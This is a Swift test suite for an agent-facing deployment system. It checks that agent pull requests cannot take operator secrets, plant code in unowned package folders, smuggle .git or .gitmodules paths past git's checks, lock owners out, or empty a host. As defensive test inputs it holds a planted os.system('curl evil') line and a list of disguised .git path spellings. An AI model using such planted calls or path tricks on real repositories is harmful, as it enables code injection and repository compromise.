import Foundation
import PrimSystem
import XCTest

/// The agent boundary's third round, through the real pr.sh, primd and testbed: an agent never
/// receives a value it did not bring, never plants code in another's prim, is never locked out of
/// its own prim, and a state without a policy or a commit that empties a host changes nothing.
final class AgentBoundaryTests: XCTestCase {
    var testbed: Testbed!
    var loop: AgentLoop?

    override func setUpWithError() throws {
        testbed = try Testbed.up()
        XCTAssertEqual(try testbed.primctl(["secret", "set", "API_KEY"], input: "boundary-secret").status, 0)
    }

    override func tearDown() {
        loop?.stop()
        testbed?.down()
    }

    /// The operator filled the store ahead of a PR (or a removed prim left its value there). An
    /// agent declares that name for its own new prim, encrypted to its own key: the store's value
    /// never reaches the agent's prim; it is blocked on its own ciphertext.
    func testAnAgentsEncryptedDeclarationNeverTakesTheStoresValue() throws {
        XCTAssertEqual(try testbed.primctl(["secret", "set", "STRIPE_KEY"], input: "operators-stripe-value").status, 0)
        let loop = try AgentLoop(testbed: testbed, files: ConvergedState.files())
        self.loop = loop
        let own = try Command.run("/usr/bin/age-keygen", [])
        let ownRecipient =
            own.stderr.split(separator: " ").last.map { String($0).trimmingCharacters(in: .whitespacesAndNewlines) }
            ?? ""
        let armor = try Command.run("/bin/sh", ["-c", "printf agents-own-value | /usr/bin/age -a -r \(ownRecipient)"])
            .stdout
        let declaration = "prims: [thief]\nencrypted: |\n" + armor.split(separator: "\n").map { "  \($0)\n" }.joined()
        let thief = Prims.yaml("thief", port: 3251).replacingOccurrences(of: "port:", with: "env: [STRIPE_KEY]\nport:")
        let pr = try loop.prsh.open(
            ["state/prims/thief.yaml": thief, "state/secrets/STRIPE_KEY.yaml": declaration], title: "Add thief")
        XCTAssertEqual(pr.status, 201, pr.message)
        // The PR shows a source for every key; whether it merges, the store is never that source.
        if pr.state == "merged" {
            let outcome = try loop.prsh.deployment(of: pr.number!)
            XCTAssertNotEqual(outcome["state"] as? String, "live", "\(outcome)")
        }
        let head = try GitRepository.open(loop.repo.bare).branchHead("main")!
        loop.primd.waitForAttemptToEnd(head, "the agent's commit", timeout: 60)
        XCTAssertNotEqual(
            try testbed.activeState("prim-thief.service"), "active",
            "the prim is blocked on a ciphertext this host cannot read")
        for name in (try? FileManager.default.contentsOfDirectory(atPath: testbed.envDir)) ?? [] {
            let content = (try? String(contentsOfFile: "\(testbed.envDir)/\(name)", encoding: .utf8)) ?? ""
            XCTAssertFalse(content.contains("operators-stripe-value"), "\(name) holds the store's value")
        }
        let blocked = loop.primd.status()?["blocked"].map { "\($0)" } ?? ""
        XCTAssertTrue(blocked.contains("thief") && blocked.contains("STRIPE_KEY"), blocked)
        // The status says where each running prim's values come from, never the values.
        let alpha = (loop.primd.status()?["prims"] as? [[String: Any]] ?? []).first { $0["prim"] as? String == "alpha" }
        XCTAssertEqual((alpha?["env_sources"] as? [String: String])?["API_KEY"], "store", "\(alpha ?? [:])")
        let raw = loop.primd.get("/status")?.text ?? ""
        XCTAssertFalse(
            raw.contains("boundary-secret") || raw.contains("operators-stripe-value"), "no value in the status")
        // Declaring it `external` (the store's value) is the operator's to approve.
        let external = try loop.prsh.open(
            ["state/secrets/STRIPE_KEY.yaml": "prims: [thief]\nexternal: true\n"], title: "take the store's",
            wallet: Wallets.alice)
        XCTAssertEqual(external.state, "open", external.message)
        XCTAssertTrue(
            (external.json["approval_reasons"] as? [String] ?? []).contains { $0.hasSuffix("(rule external-secret)") },
            "\(external.json)")
    }

    /// Code planted in a package folder with no prim would run in whichever prim later takes the
    /// name: refused. Files left in a folder (by a removed prim, or the operator) make a new prim
    /// there wait for an operator, naming the files.
    func testAPackageFolderBelongsToItsPrim() throws {
        let repo = try StateRepository(files: ConvergedState.files())
        let prsh = try PrshProcess(repo: repo)
        defer { _ = prsh.stop() }
        let before = try GitRepository.open(repo.bare).branchHead("main")!
        let planted = try prsh.open(
            ["state/packages/zeta/json.py": "import os\nos.system('curl evil')\n"], title: "helpers",
            wallet: Wallets.bob)
        XCTAssertEqual(planted.status, 400, planted.message)
        XCTAssertEqual(planted.field, "files[0].path")
        XCTAssertTrue(planted.message.contains("package folder of prim 'zeta', which does not exist"), planted.message)
        XCTAssertEqual(try GitRepository.open(repo.bare).branchHead("main"), before, "nothing reached main")
        XCTAssertEqual(prsh.records, [], "no PR")
        // Outside upstream's layout a packages/<id>/prim.yaml declares nothing, so it creates no prim either.
        let disguised = try prsh.open(
            ["state/packages/zeta/prim.yaml": "id: zeta\n", "state/packages/zeta/server.py": "print(1)\n"],
            title: "helpers", wallet: Wallets.bob)
        XCTAssertEqual(disguised.status, 400, disguised.message)
        // A plain file where a prim's package folder would go squats the name: refused too.
        let squat = try prsh.open(["state/packages/kiwi": "import os\n"], title: "squat", wallet: Wallets.bob)
        XCTAssertEqual(squat.status, 400, squat.message)
        // A second declaration of a name in a dot-named file is refused by validation, not a shadow.
        let shadow = try prsh.open(
            ["state/secrets/.API_KEY.yaml": "prims: [beta]\nexternal: true\n"], title: "shadow", wallet: Wallets.bob)
        XCTAssertEqual(shadow.status, 400, shadow.message)
        XCTAssertEqual(try GitRepository.open(repo.bare).branchHead("main"), before, "nothing reached main")

        // Left over on main (as a removed prim's folder is): a new prim there waits for the operator.
        try repo.commit(["packages/zeta/json.py": "# left behind\n"], message: "leftover")
        let zeta = try prsh.open(
            ["state/prims/zeta.yaml": Prims.yaml("zeta", port: 3252), "state/packages/zeta/app.py": "import json\n"],
            title: "Add zeta", wallet: Wallets.carol)
        XCTAssertEqual(zeta.status, 201, zeta.message)
        XCTAssertEqual(zeta.state, "open", zeta.message)
        let reasons = zeta.json["approval_reasons"] as? [String] ?? []
        XCTAssertTrue(
            reasons.contains { $0.contains("packages/zeta/json.py") && $0.hasSuffix("(rule package-leftovers)") },
            "\(reasons)")
        let plan = (zeta.json["checks"] as? [[String: Any]] ?? []).first { $0["name"] as? String == "plan" }
        XCTAssertTrue(
            (plan?["details"] as? [String] ?? []).contains {
                $0.contains("packages/zeta/ already holds files") && $0.contains("packages/zeta/json.py")
            },
            "\(plan ?? [:])")
    }

    /// A hidden `.git` (HFS+ ignores U+200D) and the other spellings git refuses on some platform.
    func testPathsGitRefusesOnAnyPlatformAreRefusedNamingTheRule() throws {
        let repo = try StateRepository(files: ConvergedState.files())
        let prsh = try PrshProcess(repo: repo)
        defer { _ = prsh.stop() }
        let cases = [
            ("state/packages/alpha/.g\u{200D}it/config", "hfs-dotgit"),
            ("state/packages/alpha/.GIT./config", "ntfs-dotgit"),
            ("state/packages/alpha/.git::$INDEX_ALLOCATION/x", "ntfs-dotgit"),
            ("state/packages/alpha/GIT~1/config", "ntfs-short-name"),
            ("state/packages/alpha/.gitmodules", "gitmodules"),
            ("state/packages/alpha/\u{FEFF}.gitmodules", "gitmodules"),
            ("state/packages/alpha/a\u{200B}\u{202E}b.py", "invisible-character"),
            ("state/packages/alpha/aux.py", "win32-name"),
            ("state/packages/alpha/a:b.py", "win32-name"),
            ("state/packages/alpha/cafe\u{0301}.py", "nfc"),
            ("state/packages/stub/Server.py", "case-twin"),
            ("state/packages/alpha/" + String(repeating: "é", count: 200), "name-length"),
        ]
        for (path, rule) in cases {
            let answer = try prsh.open([path: "x\n"], title: "path")
            XCTAssertEqual(answer.status, 400, "\(path): \(answer.message)")
            XCTAssertTrue(answer.message.contains("(rule \(rule))"), "\(path): \(answer.message)")
        }
        XCTAssertEqual(prsh.records, [], "no PR")
    }

    /// A stranger's PR that waits for an owner's approval never locks the owner out of its own prim.
    func testAnOwnerIsNeverLockedOutByAStrangersPullRequest() throws {
        let repo = try StateRepository(files: ConvergedState.files())
        let prsh = try PrshProcess(repo: repo)
        defer { _ = prsh.stop() }
        let created = try prsh.open(
            ["state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253)], title: "Add gamma", wallet: Wallets.alice)
        XCTAssertEqual(created.state, "merged", created.message)
        let stranger = try prsh.open(
            ["state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "bob's")], title: "bob",
            wallet: Wallets.bob)
        XCTAssertEqual(stranger.state, "open", stranger.message)
        // A third wallet is still told to wait for it.
        let third = try prsh.open(
            ["state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "carol's")], title: "carol",
            wallet: Wallets.carol)
        XCTAssertEqual(third.status, 409, third.message)
        // The owner's own change goes through and merges; the stranger's then conflicts.
        let own = try prsh.open(
            ["state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "alice's")], title: "alice",
            wallet: Wallets.alice)
        XCTAssertEqual(own.status, 201, own.message)
        XCTAssertEqual(own.state, "merged", own.message)
        // Merging the stranger's PR now would be a conflict (its file changed on main), never an overwrite.
        let merge = try prsh.request("POST", "/v1/pr/\(stranger.number!)/approve", wallet: Wallets.alice)
        XCTAssertEqual(merge.status, 409, "bob's change no longer applies to the new main: \(merge.message)")
        XCTAssertTrue(
            try String(
                decoding: GitRepository.open(repo.bare).file(
                    "state/prims/gamma.yaml", at: GitRepository.open(repo.bare).branchHead("main")!) ?? [],
                as: UTF8.self
            ).contains("alice's"))
        XCTAssertEqual(try prsh.request("POST", "/v1/pr/\(stranger.number!)/close", wallet: Wallets.bob).status, 200)

        // Approving a stranger's PR that still waits for the operator gives nothing up: the owner's
        // own change still goes first, and it may still decline.
        let risky = try prsh.open(
            [
                "state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "carol's")
                    + "  hardening: false\n"
            ],
            title: "carol", wallet: Wallets.carol)
        XCTAssertEqual(risky.state, "open", risky.message)
        let riskyNumber = try XCTUnwrap(risky.number)
        XCTAssertEqual(try prsh.request("POST", "/v1/pr/\(riskyNumber)/approve", wallet: Wallets.alice).status, 200)
        let mine = try prsh.open(
            ["state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "alice's third")], title: "alice",
            wallet: Wallets.alice)
        XCTAssertEqual(mine.state, "merged", mine.message)
        XCTAssertEqual(
            try prsh.request("POST", "/v1/pr/\(riskyNumber)/close", wallet: Wallets.carol).status, 200,
            "its author closes it")

        // The owner may also decline a stranger's PR outright; a third wallet may not.
        let again = try prsh.open(
            ["state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "bob again")], title: "bob",
            wallet: Wallets.bob)
        XCTAssertEqual(again.state, "open", again.message)
        let againNumber = try XCTUnwrap(again.number)
        XCTAssertEqual(try prsh.request("POST", "/v1/pr/\(againNumber)/close", wallet: Wallets.carol).status, 403)
        let declined = try prsh.request("POST", "/v1/pr/\(againNumber)/close", wallet: Wallets.alice)
        XCTAssertEqual(declined.status, 200, declined.message)
        XCTAssertEqual(declined.state, "closed")

        // An owner that approved a PR still waiting for the operator may still decline it.
        let waiting = try prsh.open(
            [
                "state/prims/gamma.yaml": Prims.yaml("gamma", port: 3253, description: "carol waits")
                    + "  hardening: false\n"
            ],
            title: "carol", wallet: Wallets.carol)
        let waitingNumber = try XCTUnwrap(waiting.number)
        XCTAssertEqual(try prsh.request("POST", "/v1/pr/\(waitingNumber)/approve", wallet: Wallets.alice).status, 200)
        let withdrawn = try prsh.request("POST", "/v1/pr/\(waitingNumber)/close", wallet: Wallets.alice)
        XCTAssertEqual(withdrawn.status, 200, withdrawn.message)
        XCTAssertEqual(withdrawn.state, "closed")
    }

    /// No policy.yaml: nothing merges unattended, not even an agent's new prim.
    func testWithoutAPolicyNothingMergesUnattended() throws {
        let repo = try StateRepository(files: ConvergedState.files(), withoutPolicy: true)
        let prsh = try PrshProcess(repo: repo)
        defer { _ = prsh.stop() }
        let before = try GitRepository.open(repo.bare).branchHead("main")!
        let pr = try prsh.open(
            [
                "state/prims/gamma.yaml": Prims.yaml("gamma", port: 3254),
                "state/packages/gamma/app.py": "print('hi')\n",
            ],
            title: "Add gamma")
        XCTAssertEqual(pr.status, 201, pr.message)
        XCTAssertEqual(pr.state, "open", pr.message)
        XCTAssertTrue(
            (pr.json["approval_reasons"] as? [String] ?? []).contains { $0.hasPrefix("main has no policy.yaml") },
            "\(pr.json)")
        XCTAssertEqual(try GitRepository.open(repo.bare).branchHead("main"), before, "nothing merged")
        XCTAssertEqual(try prsh.request("POST", "/v1/pr/\(pr.number!)/merge").status, 403)
    }

    /// primd never removes every prim of its host on its own, whatever their number.
    func testPrimdRefusesACommitThatEmptiesTheHost() throws {
        let repo = try StateRepository(files: ConvergedState.files())
        let primd = try PrimdProcess(testbed: testbed, repo: "file://\(repo.bare)", extra: "", secret: nil, poll: 1)
        defer { _ = primd.stop() }
        primd.waitFor("the first revision to be applied") { primd.status()?["last_applied_revision"] as? String != nil }
        let good = primd.status()?["last_applied_revision"] as? String
        let files = testbed.liveFiles()
        let empty = try repo.commit(
            ["prims/alpha.yaml": nil, "prims/beta.yaml": nil, "secrets/API_KEY.yaml": nil], message: "empty the host")
        primd.waitForAttemptToEnd(empty, "the emptying commit", timeout: 40)
        let message = primd.status()?["last_attempt_error"] as? String ?? ""
        XCTAssertTrue(message.contains("this would remove all 2 prims deployed on host 't' (alpha, beta)"), message)
        XCTAssertEqual(primd.status()?["last_applied_revision"] as? String, good, "the good revision still serves")
        XCTAssertEqual(testbed.liveFiles(), files, "nothing changed")
        XCTAssertEqual(try testbed.activeState("prim-alpha.service"), "active")
    }
}
